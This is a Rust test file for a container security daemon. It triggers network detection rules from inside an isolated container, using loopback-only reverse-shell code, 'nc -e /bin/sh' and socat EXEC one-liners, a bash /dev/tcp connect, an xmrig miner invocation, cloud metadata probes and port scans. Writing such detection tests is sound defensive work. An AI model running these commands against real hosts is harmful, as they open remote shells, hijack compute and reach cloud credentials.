//! Rule triggers (see `rule_triggers`): network rules, miners and the
//! port-scan detection. The container has its own network namespace with only `lo`:
//! connects go to 127.0.0.1 (the rules match on the port) and are refused
//! at once, and the metadata address is unreachable (ENETUNREACH), so no
//! packet leaves the machine.

use crate::rule_triggers::*;
use crate::support::*;

#[test]
fn network_rules_fire_in_containers() {
    let ctrd = Containerd::start();
    let d = Daemon::start(DAEMON_ARGS);
    let mut t = Triggers::new(&ctrd, &d);

    t.run(Case::py(
        "packet-socket",
        &[],
        r#"
out["packet"] = err(libc.socket(17, 3, 0x300))  # AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)
out["raw"] = err(libc.socket(2, 3, 1))  # AF_INET, SOCK_RAW, IPPROTO_ICMP
"#,
    ));
    t.run(Case::py(
        "mining-pool-connect",
        &[],
        r#"
out["3333"] = nb_connect("127.0.0.1", 3333)
out["14444"] = nb_connect("127.0.0.1", 14444)
"#,
    ));
    // A miner by name, and one renamed but pointed at a stratum pool.
    t.run(Case::py(
        "crypto-miner-exec",
        &[],
        r#"
out["xmrig"] = run(named("xmrig"), "-o", "127.0.0.1:3333", "--donate-level", "1")
out["renamed"] = run(named("kworker"), "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet")
"#,
    ));
    t.run(Case::py(
        "k8s-api-from-container",
        &[],
        r#"
out["6443"] = nb_connect("127.0.0.1", 6443)
out["10250"] = nb_connect("127.0.0.1", 10250)
"#,
    ));
    // A shell whose stdin/stdout/stderr are a TCP connection (to a listener
    // in the same container standing in for the attacker).
    t.run(Case::py(
        "reverse-shell",
        &["shell-in-container"],
        r#"
srv = socket.socket()
srv.bind(("127.0.0.1", 47400))
srv.listen(1)
c = socket.create_connection(("127.0.0.1", 47400))
a, _ = srv.accept()
pid = os.fork()
if pid == 0:
    try:
        for fd in (0, 1, 2):
            os.dup2(c.fileno(), fd)
        os.execv("/bin/sh", ["sh", "-c", "echo bw-reverse-shell"])
    finally:
        os._exit(127)
out["status"] = os.waitpid(pid, 0)[1]
out["got"] = a.recv(100).decode().strip()
"#,
    ));
    // Programs called nc and socat (symlinks to true: the image has no
    // netcat) with the arguments that make them run a program.
    t.run(Case::py(
        "netcat-remote-exec",
        &[],
        r#"
out["nc"] = run(named("nc"), "-e", "/bin/sh", "127.0.0.1", "4444")
out["socat"] = run(named("socat"), "TCP:127.0.0.1:4444", "EXEC:/bin/sh")
"#,
    ));
    // bash's /dev/tcp: the shell itself connects (refused).
    t.run(Case::cmd(
        "shell-network-connect",
        &["shell-in-container"],
        &["bash", "-c", "echo bw >/dev/tcp/127.0.0.1/47401 || true"],
    ));
    t.run(Case::cmd(
        "listen-unexpected",
        &[],
        &[
            "perl",
            "-MIO::Socket::INET",
            "-e",
            "IO::Socket::INET->new(Listen => 5, LocalAddr => '127.0.0.1', LocalPort => 47402) or die $!",
        ],
    ));
    t.run(Case::py(
        "cloud-metadata-access",
        &[],
        r#"
out["aws"] = nb_connect("169.254.169.254", 80, timeout=0.1)
out["alibaba"] = udp_send("100.100.100.200", 80)
"#,
    ));
    t.run(Case::py(
        "dns-unusual-port",
        &[],
        r#"
out["5053"] = udp_send("127.0.0.1", 5053)
out["853"] = udp_send("127.0.0.1", 853)
"#,
    ));
    t.run(Case::py(
        "network-scanner-exec",
        &[],
        r#"
out["nmap"] = run(named("nmap"), "-sS", "-p", "1-1024", "127.0.0.1")
"#,
    ));
    // 25 distinct closed ports in well under the 5 s window.
    t.run(Case::py(
        "port-scan-from-container",
        &[],
        r#"
out["refused"] = sum(1 for p in range(47500, 47525) if nb_connect("127.0.0.1", p) == -errno.ECONNREFUSED)
"#,
    ));
    t.finish();
    d.stop();
}
